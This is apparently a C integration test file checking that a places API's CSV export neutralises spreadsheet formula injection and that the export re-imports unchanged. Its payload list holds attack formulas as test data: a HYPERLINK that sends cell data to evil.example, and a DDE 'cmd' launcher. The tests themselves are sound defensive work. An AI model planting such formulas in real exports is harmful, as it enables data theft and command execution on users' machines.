/* CSV injection (OWASP) in the places' CSV export: a place whose name is a
 * formula (the payloads of issue #14) is exported with a single quote before
 * it, quoted, so that a spreadsheet shows it as text; the numbers the service
 * writes (a negative longitude, an E.164 phone) stay numbers; the import reads
 * the export back to the same name. Each test's places carry a tag of their
 * own in their summary, found with q=<tag>. */
#include "csv.h"
#include "support/expect.h"
#include "support/fixture.h"

#include <stdlib.h>
#include <string.h>

static char *writer;

static void start(void)
{
    fixture_start();
    fixture_token(&writer, "france-services-mirande", "places:read places:write");
}

TestSuite(csv_injection, .init = start, .fini = fixture_stop, .timeout = 120);

static const char *const payloads[] = {
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez ici\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
};
#define N_PAYLOADS (sizeof payloads / sizeof payloads[0])

/* A place named `name`, tagged `tag` (its summary) with source_id tag-n, at
 * Bordeaux (no INSEE code: a longitude below zero), phone 05 62 66 00 00. */
static void create_named(const char *tag, int n, const char *name)
{
    char source_id[96], summary[128];
    snprintf(source_id, sizeof source_id, "%s-%d", tag, n);
    snprintf(summary, sizeof summary, "Essai %s", tag);
    post_created("/v1/places", writer,
                 json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:f, s:f, s:s}", "source",
                           "integration-tests", "source_id", source_id, "pivot", "00000000000000",
                           "name", name, "street", "1 rue de l'Essai", "postal_code", "33000",
                           "commune", "Bordeaux", "summary", summary, "latitude", 44.8378,
                           "longitude", -0.58, "phone", "05 62 66 00 00"),
                 NULL, NULL, 0);
}

/* GET /v1/places?format=csv&q=tag: the body (caller frees) and, parsed, *csv. */
static char *export_tagged(const char *tag, struct csv *csv)
{
    char path[256];
    snprintf(path, sizeof path, "/v1/places?format=csv&limit=100&q=%s", tag);
    struct response *r = http_get(server.base_url, path, writer);
    cr_assert_eq(r->status, 200, "%ld %s", r->status, r->body);
    size_t bad = 0;
    cr_assert_eq(csv_parse(r->body, r->body_len, ',', csv, &bad), 0, "line %zu", bad);
    char *body = strdup(r->body);
    response_free(r);
    return body;
}

/* The row of `csv` whose column `id` is `source_id`, or -1. */
static int row_of(const struct csv *csv, const char *source_id)
{
    int id = csv_column(csv, "id");
    for (size_t i = 1; i < csv->count; i++)
        if (id >= 0 && (size_t)id < csv->rows[i].count &&
            strcmp(csv->rows[i].fields[id], source_id) == 0)
            return (int)i;
    return -1;
}

Test(csv_injection, a_name_that_is_a_formula_is_exported_as_text)
{
    char tag[64];
    test_nonce("csvinj", tag, sizeof tag);
    for (size_t i = 0; i < N_PAYLOADS; i++)
        create_named(tag, (int)i, payloads[i]);
    struct csv csv;
    char *body = export_tagged(tag, &csv);
    cr_assert_eq(csv.count, 1 + N_PAYLOADS, "the header and the %zu places: %s", N_PAYLOADS, body);
    int nom = csv_column(&csv, "nom"), lon = csv_column(&csv, "longitude"),
        phone = csv_column(&csv, "telephone");
    cr_assert(nom >= 0 && lon >= 0 && phone >= 0, "the columns nom, longitude, telephone");
    for (size_t i = 0; i < N_PAYLOADS; i++) {
        char source_id[96], expected[256], quoted[300];
        snprintf(source_id, sizeof source_id, "%s-%zu", tag, i);
        int row = row_of(&csv, source_id);
        cr_assert_geq(row, 1, "the place %s", source_id);
        snprintf(expected, sizeof expected, "'%s", payloads[i]);
        cr_expect_str_eq(csv.rows[row].fields[nom], expected, "the name, behind a quote");
        cr_expect_str_eq(csv_cell_text(csv.rows[row].fields[nom]), payloads[i]);
        cr_expect_str_eq(csv.rows[row].fields[lon], "-0.58", "a number stays a number");
        cr_expect_str_eq(csv.rows[row].fields[phone], "+33562660000", "a number stays a number");
        /* the bytes themselves: the quote inside the cell's double quotes */
        char *q = quoted;
        *q++ = '"';
        *q++ = '\'';
        for (const char *p = payloads[i]; *p; p++) {
            if (*p == '"')
                *q++ = '"';
            *q++ = *p;
        }
        *q++ = '"';
        *q = '\0';
        cr_expect_not_null(strstr(body, quoted), "the body holds %s", quoted);
    }
    /* no cell of the export, header included, starts a formula */
    for (size_t r = 0; r < csv.count; r++)
        for (size_t c = 0; c < csv.rows[r].count; c++) {
            const char *cell = csv.rows[r].fields[c];
            cr_expect(!csv_is_neutralised(cell) || cell[0] == '\'',
                      "line %zu, column %zu: [%s] starts a formula", csv.rows[r].line, c, cell);
        }
    csv_free(&csv);
    free(body);
}

Test(csv_injection, the_import_reads_the_export_back_to_the_same_names)
{
    char tag[64];
    test_nonce("csvinj", tag, sizeof tag);
    for (size_t i = 0; i < N_PAYLOADS; i++)
        create_named(tag, (int)i, payloads[i]);
    struct csv csv;
    char *body = export_tagged(tag, &csv);
    csv_free(&csv);
    /* the export, imported as it is: nothing changes */
    char auth[4096];
    const char *headers[] = {bearer_header(writer, auth, sizeof auth), "Content-Type: text/csv",
                             NULL};
    struct response *r = http_request("POST", url("/v1/places/import?dry_run=true"), headers, body);
    cr_assert_eq(r->status, 200, "%ld %s", r->status, r->body);
    json_t *report = response_json(r);
    cr_expect_eq(json_integer_value(json_object_get(report, "unchanged")), (json_int_t)N_PAYLOADS,
                 "every row unchanged: %s", r->body);
    cr_expect_eq(json_integer_value(json_object_get(report, "updated")), 0, "%s", r->body);
    cr_expect_eq(json_integer_value(json_object_get(report, "created")), 0, "%s", r->body);
    json_decref(report);
    response_free(r);
    free(body);
}
